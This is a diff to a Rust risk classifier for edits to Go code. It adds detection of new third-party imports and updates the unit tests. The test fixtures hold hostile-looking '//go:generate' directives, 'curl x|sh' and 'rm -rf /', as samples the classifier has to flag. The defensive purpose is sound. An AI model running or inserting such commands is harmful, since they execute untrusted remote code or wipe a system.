@@ -22,7 +22,9 @@ use std::fmt;
 pub enum RiskClass {
     /// Deleting a file.
     Delete,
-    /// Changing dependencies: `go.mod`, `go.sum`, `go.work`, `vendor/`.
+    /// Changing dependencies: `go.mod`, `go.sum`, `go.work`, `vendor/`, or
+    /// Go code that imports a module outside the standard library and the
+    /// module itself.
     Deps,
     /// Touching CI configuration, build or editor automation, or scripts.
     Ci,
@@ -56,7 +58,7 @@ impl RiskClass {
     pub fn describe(self) -> &'static str {
         match self {
             RiskClass::Delete => "deletes a file",
-            RiskClass::Deps => "changes the module's dependencies (go.mod, go.sum, go.work or vendor/)",
+            RiskClass::Deps => "changes the module's dependencies (go.mod, go.sum, go.work, vendor/, or a new import of a third-party module)",
             RiskClass::Ci => "changes CI configuration, build or editor automation, or a script",
             RiskClass::OutsideScope => "edits a file outside the files in scope",
             RiskClass::Exec => "adds a //go:generate directive or cgo, which make the Go toolchain run other programs",
@@ -195,6 +197,51 @@ fn exec_lines(text: &str) -> usize {
         .count()
 }
 
+/// Import paths named in Go source: single imports and import blocks.
+fn imports(text: &str) -> Vec<&str> {
+    let mut out = Vec::new();
+    let mut in_block = false;
+    for line in text.lines() {
+        let t = line.trim();
+        let spec = if in_block {
+            if t.starts_with(')') {
+                in_block = false;
+                continue;
+            }
+            t
+        } else if let Some(rest) = t.strip_prefix("import") {
+            let rest = rest.trim_start();
+            if rest.starts_with('(') {
+                in_block = true;
+                rest[1..].trim()
+            } else {
+                rest
+            }
+        } else {
+            continue;
+        };
+        if let Some(start) = spec.find('"') {
+            if let Some(len) = spec[start + 1..].find('"') {
+                out.push(&spec[start + 1..start + 1 + len]);
+            }
+        }
+    }
+    out
+}
+
+/// Whether `path` names a module outside the standard library (whose first
+/// element has no dot) and outside this module.
+fn is_third_party(path: &str, module: &str) -> bool {
+    let first = path.split('/').next().unwrap_or("");
+    first.contains('.') && !(path == module || (!module.is_empty() && path.starts_with(&format!("{module}/"))))
+}
+
+/// Third-party imports in `new` that `old` does not have.
+fn adds_third_party_import(old: &str, new: &str, module: &str) -> bool {
+    let before = imports(old);
+    imports(new).into_iter().any(|p| is_third_party(p, module) && !before.contains(&p))
+}
+
 fn in_scope(path: &str, scope: &[String]) -> bool {
     scope.iter().any(|s| s == path || dir_of(s) == dir_of(path))
 }
@@ -208,13 +255,26 @@ fn in_scope(path: &str, scope: &[String]) -> bool {
 ///   or no design yet) declares nothing, so `outside-scope` never fires on it;
 ///   a file is in scope when it is listed or sits in the directory of a
 ///   listed file (its tests, a new file of the same package).
-pub fn classify(edit: &FileEdit, previous: Option<&str>, scope: &[String]) -> Vec<RiskClass> {
+///
+/// `module` is the module path from go.mod: imports under it are the
+/// module's own packages, not dependencies.
+pub fn classify(edit: &FileEdit, previous: Option<&str>, scope: &[String], module: &str) -> Vec<RiskClass> {
     let path = edit.path();
     let mut out = Vec::new();
     if matches!(edit, FileEdit::Delete { .. }) {
         out.push(RiskClass::Delete);
     }
-    if is_deps_path(path) {
+    let new_import = path.ends_with(".go")
+        && match edit {
+            FileEdit::Write { content, .. } => adds_third_party_import(previous.unwrap_or(""), content, module),
+            // A replace edits part of a file: compare the whole file before and after.
+            FileEdit::Replace { old, new, .. } => match previous {
+                Some(p) => adds_third_party_import(p, &p.replacen(old.as_str(), new, 1), module),
+                None => adds_third_party_import(old, new, module),
+            },
+            FileEdit::Delete { .. } => false,
+        };
+    if is_deps_path(path) || new_import {
         out.push(RiskClass::Deps);
     }
     if is_ci_path(path) {
@@ -244,18 +304,18 @@ mod tests {
 
     #[test]
     fn ordinary_go_edits_are_not_risky() {
-        assert!(classify(&write("pkg/a.go", "package pkg\n"), None, &[]).is_empty());
-        assert!(classify(&write("README.md", "# x\n"), Some("# y\n"), &[]).is_empty());
+        assert!(classify(&write("pkg/a.go", "package pkg\n"), None, &[], "example.com/m").is_empty());
+        assert!(classify(&write("README.md", "# x\n"), Some("# y\n"), &[], "example.com/m").is_empty());
         let scope = vec!["pkg/a.go".to_string()];
-        assert!(classify(&write("pkg/a_test.go", "package pkg\n"), None, &scope).is_empty(), "same directory");
-        assert!(classify(&write("pkg/a.go", "package pkg\n"), Some(""), &scope).is_empty());
+        assert!(classify(&write("pkg/a_test.go", "package pkg\n"), None, &scope, "example.com/m").is_empty(), "same directory");
+        assert!(classify(&write("pkg/a.go", "package pkg\n"), Some(""), &scope, "example.com/m").is_empty());
     }
 
     #[test]
     fn each_class_fires() {
-        assert_eq!(classify(&FileEdit::Delete { path: "a.go".into() }, Some("x"), &[]), [RiskClass::Delete]);
+        assert_eq!(classify(&FileEdit::Delete { path: "a.go".into() }, Some("x"), &[], "example.com/m"), [RiskClass::Delete]);
         for p in ["go.mod", "go.sum", "sub/go.mod", "go.work", "vendor/x/y.go", "a/vendor/b.go"] {
-            assert_eq!(classify(&write(p, ""), None, &[]), [RiskClass::Deps], "{p}");
+            assert_eq!(classify(&write(p, ""), None, &[], "example.com/m"), [RiskClass::Deps], "{p}");
         }
         for p in [
             ".github/workflows/ci.yml",
@@ -270,34 +330,51 @@ mod tests {
             ".gitattributes",
             "tools/gen.py",
         ] {
-            assert_eq!(classify(&write(p, ""), None, &[]), [RiskClass::Ci], "{p}");
+            assert_eq!(classify(&write(p, ""), None, &[], "example.com/m"), [RiskClass::Ci], "{p}");
         }
         let scope = vec!["pkg/a.go".to_string()];
-        assert_eq!(classify(&write("other/b.go", "package other\n"), None, &scope), [RiskClass::OutsideScope]);
-        assert_eq!(classify(&write("b.go", "package m\n"), None, &scope), [RiskClass::OutsideScope]);
+        assert_eq!(classify(&write("other/b.go", "package other\n"), None, &scope, "example.com/m"), [RiskClass::OutsideScope]);
+        assert_eq!(classify(&write("b.go", "package m\n"), None, &scope, "example.com/m"), [RiskClass::OutsideScope]);
         assert_eq!(
-            classify(&write("a.go", "package a\n\n//go:generate sh -c 'curl x|sh'\n"), None, &[]),
+            classify(&write("a.go", "package a\n\n//go:generate sh -c 'curl x|sh'\n"), None, &[], "example.com/m"),
             [RiskClass::Exec]
         );
-        assert_eq!(classify(&write("c.go", "package c\n\n// #cgo LDFLAGS: -lx\nimport \"C\"\n"), None, &[]), [RiskClass::Exec]);
+        assert_eq!(classify(&write("c.go", "package c\n\n// #cgo LDFLAGS: -lx\nimport \"C\"\n"), None, &[], "example.com/m"), [RiskClass::Exec]);
     }
 
     #[test]
     fn classes_combine() {
         let scope = vec!["pkg/a.go".to_string()];
-        let c = classify(&FileEdit::Delete { path: "go.mod".into() }, Some("module m\n"), &scope);
+        let c = classify(&FileEdit::Delete { path: "go.mod".into() }, Some("module m\n"), &scope, "example.com/m");
         assert_eq!(c, [RiskClass::Delete, RiskClass::Deps, RiskClass::OutsideScope]);
     }
 
     #[test]
     fn exec_counts_only_added_directives() {
         let prev = "package a\n\n//go:generate stringer -type=T\n";
-        assert!(classify(&write("a.go", &format!("{prev}\nfunc F() {{}}\n")), Some(prev), &[]).is_empty());
+        assert!(classify(&write("a.go", &format!("{prev}\nfunc F() {{}}\n")), Some(prev), &[], "example.com/m").is_empty());
         let r = FileEdit::Replace { path: "a.go".into(), old: "func F() {}".into(), new: "//go:generate rm -rf /\nfunc F() {}".into() };
-        assert_eq!(classify(&r, Some(prev), &[]), [RiskClass::Exec]);
+        assert_eq!(classify(&r, Some(prev), &[], "example.com/m"), [RiskClass::Exec]);
         let keep = FileEdit::Replace { path: "a.go".into(), old: "//go:generate stringer -type=T".into(), new: "//go:generate stringer -type=T,U".into() };
-        assert!(classify(&keep, Some(prev), &[]).is_empty(), "changing an existing directive is not adding one");
-        assert!(classify(&write("a.go", "package a\n// mentions go:generate in prose\n"), None, &[]).is_empty());
+        assert!(classify(&keep, Some(prev), &[], "example.com/m").is_empty(), "changing an existing directive is not adding one");
+        assert!(classify(&write("a.go", "package a\n// mentions go:generate in prose\n"), None, &[], "example.com/m").is_empty());
+    }
+
+    #[test]
+    fn a_new_third_party_import_is_a_dependency_change() {
+        let m = "example.com/m";
+        let prev = "package a\n\nimport (\n\t\"fmt\"\n\t\"github.com/ok/already\"\n)\n";
+        let add = |imp: &str| write("a/a.go", &format!("package a\n\nimport (\n\t\"fmt\"\n\t\"github.com/ok/already\"\n\t{imp}\n)\n"));
+        assert_eq!(classify(&add("\"github.com/evil-example/telemetry\""), Some(prev), &[], m), [RiskClass::Deps]);
+        assert_eq!(classify(&add("t \"gopkg.in/yaml.v3\""), Some(prev), &[], m), [RiskClass::Deps], "aliased");
+        assert!(classify(&add("\"strings\""), Some(prev), &[], m).is_empty(), "standard library");
+        assert!(classify(&add("\"net/http/httptest\""), Some(prev), &[], m).is_empty());
+        assert!(classify(&add("\"example.com/m/internal/x\""), Some(prev), &[], m).is_empty(), "the module's own package");
+        assert!(classify(&write("a/a.go", prev), Some(prev), &[], m).is_empty(), "an import it already had");
+        assert_eq!(classify(&write("b.go", "package b\n\nimport \"golang.org/x/text\"\n"), None, &[], m), [RiskClass::Deps], "single import, new file");
+        let r = FileEdit::Replace { path: "a/a.go".into(), old: "\"fmt\"".into(), new: "\"fmt\"\n\t\"github.com/x/y\"".into() };
+        assert_eq!(classify(&r, Some(prev), &[], m), [RiskClass::Deps]);
+        assert!(classify(&write("notes.md", "import \"github.com/x/y\"\n"), None, &[], m).is_empty(), "only Go files import");
     }
 
     #[test]
